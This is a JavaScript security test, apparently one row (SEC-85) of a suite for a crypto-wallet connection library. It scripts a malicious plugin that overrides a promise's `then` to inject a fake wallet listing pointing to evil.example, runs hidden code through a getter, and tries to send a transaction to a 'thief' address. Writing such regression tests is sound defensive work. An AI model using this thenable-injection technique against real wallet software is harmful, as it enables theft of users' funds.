import { defaultPlugins } from 'latchkey'
import { ConnectionService, WalletCatalogue } from 'latchkey/kernel'
import { useServiceLoader } from 'latchkey/ui'
import { attempt, page, settled, spy, thief, until, visitor } from './world.mjs'

export const row = 'SEC-85'

/**
 * Without any grant: the catalogue hands out a promise as it is, and is answered by the `then` that it is given. So the
 * card lists wallets of the outsider first, with links of theirs, and runs their code while it draws the names.
 */
export async function attack() {
  let catalogue
  const loaders = new Set()
  const evil = spy({ needs: { catalogue: WalletCatalogue } }, (services) => {
    catalogue = services.catalogue
  })
  const { kit, wallet, environment } = await page({
    first: defaultPlugins(),
    plugins: [evil],
    endpoints: { api: 'https://service.example' },
  })
  environment.http.on('GET', /getWallets/, {
    json: { count: 0, nextPage: null, previousPage: null, data: [] },
  })
  await until(() => catalogue, 'its set-up')
  const listing = {
    id: 'evil',
    mobile_link: 'https://evil.example/',
    get name() {
      try {
        loaders.add(useServiceLoader(ConnectionService))
      } catch {}
      return 'A wallet of the thief'
    },
  }
  try {
    // oxlint-disable-next-line unicorn/no-thenable -- that is the attack
    Object.defineProperty(catalogue.ready, 'then', { value: (done) => (done?.(), [listing]) })
  } catch {}
  kit.open({ view: 'Connect' }).catch(() => {})
  await settled(60)
  kit.open({ view: 'AllWallets' }).catch(() => {})
  await settled(60)
  const text = document.querySelector('kit-modal')?.shadowRoot?.textContent ?? ''
  // Around every review, too.
  const request = {
    namespace: 'eip155',
    caipNetworkId: 'eip155:1',
    method: 'eth_sendTransaction',
    params: [{ from: visitor, to: thief, value: '0x1' }],
  }
  for (const load of loaders)
    await attempt(async () =>
      (await load()).connectorOf('eip155').request(request, new AbortController().signal),
    )
  const asked = wallet.requests.find(({ method }) => method === 'eth_sendTransaction')
  await kit.dispose()
  if (asked) return asked.params
  return text.includes('A wallet of the thief') ? 'a wallet in the list of the kit' : undefined
}
